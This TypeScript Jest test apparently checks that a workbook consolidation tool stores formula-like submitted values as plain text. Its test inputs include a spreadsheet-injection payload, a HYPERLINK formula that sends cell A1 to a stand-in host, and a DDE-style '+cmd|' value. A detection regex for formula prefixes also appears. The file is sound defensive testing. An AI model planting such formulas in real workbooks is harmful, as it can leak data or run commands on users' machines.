/** What bodies write may look like a formula: in the workbook it is a text, and an edit does not make it anything else. */
import { afterAll, expect, it } from '@jest/globals';
import { readFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { readWorkbook } from '../../src/files';
import { policyReturns, removeFolders } from '../support/command-line';
import { consolidate, Desk, returnOf, TODAY } from './desk';

afterAll(removeFolders);

const FORMULA = '=HYPERLINK("http://example.invalid/?"&A1,"請按此")';
const LIKE_FORMULAS = /^\s*[=+\-@＝＋－＠]\s*\S/u;

it('texts like formulas have the format of texts wherever they stand, run after run', async () => {
  const desk = await Desk.open('MOC');
  const path = desk.workbook();
  const inbox = join(dirname(path), '收回');
  const [first = '', second = ''] = desk.tasks('MOC');
  const answers = (measure: string) => ({
    status: '持續辦理',
    measure,
    progress_text: `${measure}辦理研習三場。`,
  });
  await desk.returned(
    'MOC',
    inbox,
    '甲.xlsx',
    { [first]: answers(FORMULA), [second]: answers('＝1+1') },
    { coordination: '-1 項請協調：+886 2 7736 5666', contact_name: '@承辦人甲' },
  );
  await desk.returned('MOC', inbox, '乙.xlsx', { [first]: answers('+cmd|甲') });
  await consolidate(path, inbox);
  await policyReturns('summary', path, ...TODAY);
  const { sheets } = await readWorkbook(readFileSync(path));
  const awake = sheets.flatMap(({ name, rows }) =>
    rows.flatMap((row) =>
      row.flatMap(({ value, format, formula }) =>
        typeof value === 'string' && LIKE_FORMULAS.test(value) && formula === undefined
          ? [{ name, value, format }]
          : [],
      ),
    ),
  );
  expect(new Set(awake.map(({ name }) => name)).size).toBeGreaterThan(3);
  expect(awake.map(({ value }) => value)).toEqual(
    expect.arrayContaining([expect.stringContaining('HYPERLINK'), '＝1+1', '@承辦人甲']),
  );
  expect(awake.filter(({ format }) => format !== '@')).toEqual([]);
  expect((await returnOf(path, 'MOC', second))?.['measure']).toBe('＝1+1');
  expect((await consolidate(path, inbox)).data.changed).toBe(false);
});
